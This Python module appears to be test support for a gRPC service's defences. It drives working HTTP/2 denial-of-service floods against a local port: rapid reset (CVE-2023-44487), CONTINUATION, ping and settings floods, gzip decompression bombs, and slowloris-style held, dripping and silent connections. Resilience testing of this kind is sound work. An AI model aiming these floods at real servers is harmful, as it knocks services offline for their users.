"""What a stranger without a token can do to a port: each flood runs until it is told to stop, on as
many connections as it gets, and opens a connection anew when it is closed.

    with running("resets", address, ca): ...
"""

import contextlib
import multiprocessing
import select
import socket
import ssl
import struct
import time

from support import http2

_METHOD = "/thidua.reporting.v1.ReportingService/GetTotal"
_CONTINUATION = 9


# Loopback has many addresses: strangers come from another one than everybody else.
SOURCE = "127.0.0.2"


def _connect(address):
    host, port = address.rsplit(":", 1)
    return socket.create_connection((host, int(port)), timeout=10, source_address=(SOURCE, 0))


def _tls(address, ca):
    context = ssl.create_default_context(cafile=str(ca))
    context.check_hostname = False
    context.set_alpn_protocols(["h2"])
    connection = context.wrap_socket(_connect(address))
    connection.sendall(http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0, b""))
    return connection


def _headers():
    fields = [(":method", "POST"), (":scheme", "https"), (":path", _METHOD),
              (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers")]
    return b"".join(map(http2.literal, fields))


def _drain(connection):
    """Takes what the service says, so that it is never the one that waits."""
    connection.setblocking(False)
    try:
        while connection.recv(65536):
            pass
    except (ssl.SSLWantReadError, BlockingIOError):
        pass
    finally:
        connection.settimeout(10)


def _again_and_again(stop, address, ca, burst, connections=4):
    """Sends burst(n) on each of the connections, n = 0, 1, ..., anew where one is closed."""
    open_ = []
    while not stop.is_set():
        while len(open_) < connections:
            with contextlib.suppress(OSError):
                open_.append([_tls(address, ca), 0])
                continue
            break
        for entry in list(open_):
            try:
                entry[0].sendall(burst(entry[1]))
                entry[1] += 1
                _drain(entry[0])
            except OSError:
                entry[0].close()
                open_.remove(entry)
    for connection, _ in open_:
        connection.close()


def _held(stop, connect, count, each=None):
    """Holds so many connections; `each` is done to one after another, again and again."""
    held = []
    while not stop.is_set():
        if len(held) < count:
            with contextlib.suppress(OSError):
                held.append(connect())
        if each is None:
            if len(held) >= count:
                time.sleep(0.05)
            continue
        for connection in held[:]:
            try:
                each(connection)
            except OSError:
                held.remove(connection)
        if not held:
            time.sleep(0.05)
    for connection in held:
        connection.close()


def bombs(stop, address, ca):
    """Compressed messages of which each would unpack to 64 MB."""
    bomb = http2.bomb(64)
    while not stop.is_set():
        with contextlib.suppress(OSError), http2.Call(
                address, ca, _METHOD, [("grpc-encoding", "gzip")], source=SOURCE) as call:
            call.send(http2.message(bomb, True))
            call.finish()


def resets(stop, address, ca):
    """Streams that are begun and reset at once (CVE-2023-44487)."""
    block, each = _headers(), 200

    def burst(n):
        parts = []
        for i in range(n * each, (n + 1) * each):
            stream = 2 * i + 1
            parts.append(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block))
            parts.append(http2.frame(http2.RST_STREAM, 0, stream, struct.pack(">I", 8)))
        return b"".join(parts)

    _again_and_again(stop, address, ca, burst)


def continuations(stop, address, ca):
    """Headers that never end, in CONTINUATION frames."""
    more = http2.literal(("x-more", "v" * 16000))

    def burst(n):
        if n == 0:
            return http2.frame(http2.HEADERS, 0, 1, _headers())
        return http2.frame(_CONTINUATION, 0, 1, more) * 20

    _again_and_again(stop, address, ca, burst)


def exceed(address, ca):
    """Sends more than a stranger may on one connection, and waits until it is closed for that."""
    with contextlib.suppress(ConnectionError, ssl.SSLError), _tls(address, ca) as connection:
        settings = http2.frame(http2.SETTINGS, 0, 0, b"") * 1000
        while True:
            connection.sendall(settings)
            _drain(connection)


def pings(stop, address, ca):
    frames = http2.frame(http2.PING, 0, 0, bytes(8)) * 1000
    _again_and_again(stop, address, ca, lambda n: frames)


def settings(stop, address, ca):
    frames = http2.frame(http2.SETTINGS, 0, 0, b"") * 1000
    _again_and_again(stop, address, ca, lambda n: frames)


def bodies(stop, address, ca):
    """Requests of which the last byte never comes, as many and as long as windows allow."""
    block, part = _headers(), bytes(16384)

    def burst(n):
        stream = 2 * n + 1
        return (http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block) +
                http2.frame(http2.DATA, 0, stream, struct.pack(">BI", 0, 4_000_000)) +
                http2.frame(http2.DATA, 0, stream, part) * 3)

    _again_and_again(stop, address, ca, burst, connections=100)


def idle(stop, address, ca):
    """Connections that ask nothing."""
    _held(stop, lambda: _tls(address, ca), 450)


def half_headers(stop, address, ca):
    """Connections that stop in the middle of their headers."""

    def connect():
        connection = _tls(address, ca)
        connection.sendall(http2.frame(http2.HEADERS, 0, 1, _headers()))
        return connection

    _held(stop, connect, 450)


def silent(stop, address, ca):
    """Connections that say not even what TLS begins with."""
    _held(stop, lambda: _connect(address), 2000)


def drip(stop, address, ca):
    """Connections that send one byte at a time."""

    def each(connection):
        select.select([], [connection], [], 0)
        connection.send(b"\x16")

    _held(stop, lambda: _connect(address), 450, each)


FLOODS = (bombs, resets, continuations, pings, settings, bodies, idle, half_headers, silent, drip)


@contextlib.contextmanager
def running(flood, address, ca):
    """The flood goes on within, in a process of its own, and is over afterwards."""
    context = multiprocessing.get_context("fork")
    stop = context.Event()
    process = context.Process(target=flood, args=(stop, address, ca), daemon=True)
    process.start()
    try:
        yield process
    finally:
        stop.set()
        process.join(5)
        if process.is_alive():
            process.kill()
            process.join()
